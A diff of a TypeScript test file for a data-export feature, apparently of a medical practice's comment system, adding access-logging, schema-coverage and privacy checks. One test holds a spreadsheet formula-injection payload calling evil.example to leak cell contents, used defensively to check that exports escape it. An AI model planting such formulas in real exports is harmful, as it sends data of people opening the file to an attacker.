@@ -2,17 +2,20 @@ import { mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync
 import { tmpdir } from 'node:os';
 import path from 'node:path';
 import { afterEach, describe, expect, it } from 'vitest';
-import { findCommentToExport } from '@/lib/comments/retention/read-export';
+import { verifyAccess } from '@/lib/identity/access-log/verify-access';
 import { insertCover } from '@/lib/identity/cover/cover-store';
 import { database, transaction } from '@/lib/platform/database/database';
 import { exportTo } from '@/lib/privacy/export';
-import { aCanary, aComment, decideNow, leaveContact } from '@/tests/support/builders';
-import { withDatabase } from '@/tests/support/database';
+import { exportTable } from '@/lib/privacy/export-table';
+import { aComment, decideNow, leaveContact } from '@/tests/support/builders';
+import { whileFailing, withDatabase } from '@/tests/support/database';
 import { readDeskItem } from '@/tests/support/desk/desk-deeds';
 import { after, noon } from '@/tests/support/moments';
 import { ada, aPractice, aViewer, ben } from '@/tests/support/viewers';
 
 withDatabase();
+
+const by = { user: 'root', now: noon };
 
 const folders: string[] = [];
 function newFolder(): string {
@@ -37,7 +40,7 @@ describe('an export of the practice', () => {
     const waiting = await aComment();
     await decideNow(aViewer('physician', ada), waiting.id, 'return', noon, { note: 'Please say a little more.' });
     const folder = newFolder();
-    const written = await exportTo(folder, null);
+    const written = await exportTo(folder, null, by);
     for (const { name, rows } of written) expect(rowsIn(folder, name), name).toHaveLength(rows);
     expect(
       rowsIn(folder, 'revisions')
@@ -61,8 +64,8 @@ describe('an export of the practice', () => {
     const more = Array.from({ length: 1100 }, () => ({ action: 'sign-in', accountId: 'SOMEONE', at: noon }));
     await database().accessRecord.createMany({ data: more });
     const folder = newFolder();
-    await exportTo(folder, null);
-    expect(rowsIn(folder, 'access')).toHaveLength(1101);
+    await exportTo(folder, null, by);
+    expect(rowsIn(folder, 'access')).toHaveLength(1102);
     expect(rowsIn(folder, 'access')[0]).toMatchObject({
       action: 'read',
       accountId: reader.accountId,
@@ -83,7 +86,7 @@ describe('an export of the practice', () => {
     }));
     await database().commentRevision.createMany({ data: more });
     const folder = newFolder();
-    await exportTo(folder, null);
+    await exportTo(folder, null, by);
     expect(new Set(rowsIn(folder, 'revisions').map(({ id }) => id)).size).toBe(1101);
     expect(rowsIn(folder, 'revisions')).toHaveLength(1101);
   });
@@ -92,7 +95,7 @@ describe('an export of the practice', () => {
     const comment = await aComment();
     await leaveContact(comment.writer, 'someone@example.org');
     const folder = newFolder();
-    await exportTo(folder, null);
+    await exportTo(folder, null, by);
     const text = everything(folder);
     const [receipt] = await database().receipt.findMany();
     const { submissionKey } = await database().comment.findUniqueOrThrow({ where: { id: comment.id } });
@@ -105,7 +108,7 @@ describe('an export of the practice', () => {
     const formula = '=HYPERLINK("https://evil.example/?x="&A1,"Click")';
     await aComment({ body: formula });
     const folder = newFolder();
-    await exportTo(folder, null);
+    await exportTo(folder, null, by);
     expect(readFileSync(path.join(folder, 'revisions.csv'), 'utf8')).toContain(`"'${formula.replaceAll('"', '""')}"`);
     expect(rowsIn(folder, 'revisions')[0]?.['body']).toBe(formula);
   });
@@ -113,42 +116,56 @@ describe('an export of the practice', () => {
   it('is for its owner only, and never mixes with what is there', async () => {
     await aComment();
     const folder = newFolder();
-    await exportTo(folder, null);
+    await exportTo(folder, null, by);
     expect(statSync(path.join(folder, 'revisions.json')).mode & 0o077).toBe(0);
-    await expect(exportTo(folder, null)).rejects.toThrow('not empty');
+    await expect(exportTo(folder, null, by)).rejects.toThrow('not empty');
     const other = newFolder();
     writeFileSync(path.join(other, 'letter.txt'), 'mine');
-    await expect(exportTo(other, null)).rejects.toThrow('not empty');
+    await expect(exportTo(other, null, by)).rejects.toThrow('not empty');
     expect(readdirSync(other)).toEqual(['letter.txt']);
   });
 });
 
-describe('an export of one message', () => {
-  it('holds all of it, with the address, and nothing of anyone else’s', async () => {
-    const [mine, theirs] = [aCanary(), aCanary()];
-    const comment = await aComment({ body: `How long does ${mine} last?` });
-    await aComment({ body: `How long does ${theirs} last?`, status: 'published', answer: `Ask about ${theirs}.` });
-    await decideNow(aViewer('physician', ada), comment.id, 'return', noon, { note: 'Please say a little more.' });
-    await leaveContact(comment.writer, 'someone@example.org');
-    const other = await aComment();
-    for (const id of [comment.id, other.id]) await readDeskItem(aViewer('staff'), id, noon);
+describe('any export', () => {
+  it('is in the log of access before anything is written, with who asked, what for and how many', async () => {
+    await aComment();
     const folder = newFolder();
-    await exportTo(folder, comment.id);
-    expect(rowsIn(folder, 'access')).toMatchObject([{ action: 'read', commentId: comment.id }]);
-    expect(readdirSync(folder).some((name) => name.startsWith('covers'))).toBe(false);
-    expect(rowsIn(folder, 'revisions')).toMatchObject([{ body: comment.body }]);
-    expect(rowsIn(folder, 'decisions')).toHaveLength(1);
-    expect(rowsIn(folder, 'notes')).toHaveLength(1);
-    expect(rowsIn(folder, 'contact')).toMatchObject([{ commentId: comment.id, email: 'someone@example.org' }]);
-    expect(everything(folder)).not.toContain(theirs);
-    expect(readdirSync(folder).some((name) => name.startsWith('accounts'))).toBe(false);
+    await whileFailing('AccessRecord', 'INSERT', () =>
+      expect(exportTo(folder, null, by)).rejects.toThrow('accessRecord.createMany'),
+    );
+    expect(readdirSync(folder)).toEqual([]);
+    await exportTo(folder, null, by);
+    expect(await database().accessRecord.findMany()).toMatchObject([
+      { action: 'copy', accountId: 'server:root', detail: 'practice 1', commentId: null },
+    ]);
+    expect(await verifyAccess()).toMatchObject({ count: 1 });
   });
 
-  it('is found by its id or its receipt code', async () => {
-    const comment = await aComment();
-    expect(await findCommentToExport({ id: comment.id })).toBe(comment.id);
-    expect(await findCommentToExport({ code: comment.code.toLowerCase() })).toBe(comment.id);
-    expect(await findCommentToExport({ id: 'none' })).toBeNull();
-    expect(await findCommentToExport({ code: 'AAAA-AAAA' })).toBeNull();
+  it('of the practice holds every model of the schema, or says why not', async () => {
+    const models = [...readFileSync('prisma/schema.prisma', 'utf8').matchAll(/^model (\w+) /gm)].map(
+      ([, name]) => name,
+    );
+    expect(models.length).toBeGreaterThan(40);
+    expect(Object.keys(exportTable).sort()).toEqual(models.sort());
+    const written = (await exportTo(newFolder(), null, by)).map(({ name }) => name);
+    const promised = Object.values(exportTable).flatMap((told) => ('sheet' in told ? [told.sheet] : []));
+    expect(written.sort()).toEqual(promised.sort());
+  });
+
+  it('of the practice holds reports with their words, and nothing of the device that they came from', async () => {
+    const { id } = await aComment({ status: 'published' });
+    const report = {
+      id: 'r',
+      commentId: id,
+      reason: 'unkind',
+      words: 'It hurts.',
+      deviceHash: 'mark',
+      createdAt: noon,
+    };
+    await database().readerReport.create({ data: report });
+    const folder = newFolder();
+    await exportTo(folder, null, by);
+    expect(rowsIn(folder, 'reports')).toMatchObject([{ commentId: id, words: 'It hurts.' }]);
+    expect(everything(folder)).not.toContain('mark');
   });
 });
